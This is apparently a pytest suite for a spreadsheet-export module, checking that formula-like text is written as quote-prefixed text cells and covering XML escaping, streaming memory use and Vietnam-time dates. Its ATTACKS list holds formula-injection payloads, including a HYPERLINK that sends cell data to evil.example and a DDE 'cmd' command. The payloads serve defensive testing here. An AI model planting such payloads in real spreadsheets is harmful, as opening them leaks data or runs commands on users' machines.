"""common.xlsx: every cell a text cell, formula-like text quote-prefixed (issue #7,
1 and 2; issue #16, 16)."""

import io
import tracemalloc
import zipfile

import openpyxl
import pytest
from lxml import etree

from common.xlsx import Workbook, cell_text, looks_like_formula, unquote_cell

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "=cmd|'/C calc'!A0",
    "=1+1@evil.vn",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        (1, "1"),
        (3.0, "3"),
        (2.5, "2.5"),
        (None, ""),
        ("Nguyễn\x01 Văn\x1f An\x0b", "Nguyễn Văn An"),
        ("a=b", "a=b"),
        (ATTACKS[0], ATTACKS[0]),
    ],
)
def test_cell_text_is_the_value_as_text_without_characters_xml_cannot_hold(value, text):
    assert cell_text(value) == text


@pytest.mark.parametrize("value", ATTACKS)
def test_looks_like_formula_knows_every_trigger(value):
    assert looks_like_formula(value)
    assert not looks_like_formula("a" + value)


@pytest.mark.parametrize("value", ATTACKS)
def test_unquote_cell_reads_a_legacy_export_back_as_it_was(value):
    assert unquote_cell("'" + value) == value
    assert unquote_cell(value) == value
    assert unquote_cell("'Nguyễn") == "'Nguyễn"


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def written_cells(data: bytes, sheet: str = "xl/worksheets/sheet1.xml") -> dict:
    """Cell reference → (type, quote prefix, text), parsed from the package's XML."""
    xml = parts(data)
    styles = etree.fromstring(xml["xl/styles.xml"])
    xfs = styles.find(f"{MAIN}cellXfs").findall(f"{MAIN}xf")
    shared = []
    if "xl/sharedStrings.xml" in xml:
        shared = [
            "".join(si.itertext())
            for si in etree.fromstring(xml["xl/sharedStrings.xml"])
        ]
    cells = {}
    for cell in etree.fromstring(xml[sheet]).iter(f"{MAIN}c"):
        assert cell.find(f"{MAIN}f") is None, "a formula was written"
        kind = cell.get("t")
        if kind == "s":
            text = shared[int(cell.findtext(f"{MAIN}v"))]
        elif kind == "inlineStr":
            text = "".join(cell.find(f"{MAIN}is").itertext())
        else:
            text = cell.findtext(f"{MAIN}v")
        quoted = xfs[int(cell.get("s", 0))].get("quotePrefix") == "1"
        cells[cell.get("r")] = (kind, quoted, text)
    return cells


@pytest.mark.parametrize("streaming", [False, True])
def test_formula_like_text_is_a_quote_prefixed_text_cell_shown_as_it_is(streaming):
    book = Workbook(streaming=streaming)
    sheet = book.add_sheet("x")
    book.write_row(sheet, row=1, values=[*ATTACKS, 42, "Nguyễn\x01", None, "a=b"])
    book.write(sheet, row=2, column=1, value="=2+2", style=book.style(bold=True))

    data = book.content()

    cells = written_cells(data)
    string_type = "inlineStr" if streaming else "s"
    letters = "ABCDEFGH"
    assert {cells[f"{c}1"] for c in letters} == {
        (string_type, True, attack.replace("\r", "_x000D_"))
        for attack in ATTACKS  # XlsxWriter writes CR as Excel does
    }
    assert [cells[ref] for ref in ("I1", "J1", "L1")] == [
        (None, False, "42"),  # a number the portal computed is a number
        (string_type, False, "Nguyễn"),
        (string_type, False, "a=b"),
    ]
    assert "K1" not in cells
    assert cells["A2"] == (string_type, True, "=2+2")
    read = openpyxl.load_workbook(io.BytesIO(data))["x"]
    assert [c.value for c in read[1][:8]][:7] == ATTACKS[:7]
    assert read["A2"].font.bold and read["A2"].quotePrefix
    assert {c.data_type for row in read.iter_rows() for c in row if c.value} == {
        "s",
        "n",
    }
    assert read["I1"].value == 42


def test_every_part_is_well_formed_and_text_keeps_its_spaces_and_markup():
    book = Workbook(streaming=True)
    sheet = book.add_sheet("Đại biểu")
    book.write_row(sheet, row=1, values=['A & B <Ban> "Dân tộc"', "  hai  ", "x"])

    data = book.content()

    for name, content in parts(data).items():
        if name.endswith((".xml", ".rels")):
            etree.fromstring(content)
    read = openpyxl.load_workbook(io.BytesIO(data))["Đại biểu"]
    assert [c.value for c in read[1]] == ['A & B <Ban> "Dân tộc"', "  hai  ", "x"]


def test_streamed_rows_fill_several_sheets_in_turn_and_go_past_column_z():
    book = Workbook(streaming=True)
    first, second, empty = (book.add_sheet(t) for t in ("a", "b", "c"))
    for number in range(2500):
        book.write_row(first, row=number + 1, values=[f"a{number}"])
        book.write_row(second, row=number + 1, values=[f"b{number}", number])
    book.write_row(first, row=2501, values=[f"c{n}" for n in range(1, 31)])

    read = openpyxl.load_workbook(io.BytesIO(book.content()))

    assert [row[0].value for row in read["a"].iter_rows(max_row=2500)] == [
        f"a{n}" for n in range(2500)
    ]
    assert read["a"]["AD2501"].value == "c30"
    b = [[c.value for c in row] for row in read["b"].iter_rows()]
    assert b[0] == ["b0", 0] and b[-1] == ["b2499", 2499] and len(b) == 2500
    assert list(read["c"].iter_rows()) == []


def _peak_bytes(rows: int) -> int:
    tracemalloc.start()
    book = Workbook(streaming=True)
    sheet = book.add_sheet("x")
    for number in range(1, rows + 1):
        book.write_row(sheet, row=number, values=[number, "Nguyễn Văn Thử", "Sở"])
    book.content()
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


def test_a_streamed_sheet_keeps_memory_flat_as_rows_grow():
    small, large = _peak_bytes(2_000), _peak_bytes(20_000)

    # Ten times the rows: the rows are on disk, only the finished file in memory.
    assert large < 2 * small + 1_000_000, (small, large)


@pytest.mark.parametrize("streaming", [False, True])
def test_moments_are_dates_in_vietnam_time_read_day_first(streaming):
    from datetime import UTC, date, datetime

    book = Workbook(streaming=streaming)
    sheet = book.add_sheet("x")
    bold = book.style(bold=True)
    book.write_row(
        sheet,
        row=1,
        values=[datetime(2022, 11, 21, 17, 30, tzinfo=UTC), date(2022, 11, 22)],
    )
    book.write(
        sheet,
        row=2,
        column=1,
        value=datetime(2022, 11, 1, 1, 0, tzinfo=UTC),
        style=bold,
    )
    book.write(sheet, row=2, column=2, value=True)

    read = openpyxl.load_workbook(io.BytesIO(book.content()))["x"]

    moment, day = read[1]
    assert moment.value == datetime(2022, 11, 22, 0, 30)  # 17:30 UTC is 00:30 in Hà Nội
    assert moment.number_format == "dd/mm/yyyy hh:mm"
    assert day.value == datetime(2022, 11, 22) and day.number_format == "dd/mm/yyyy"
    assert read["A2"].font.bold and read["A2"].number_format == "dd/mm/yyyy hh:mm"
    assert read["B2"].data_type == "s"  # a flag is not a number
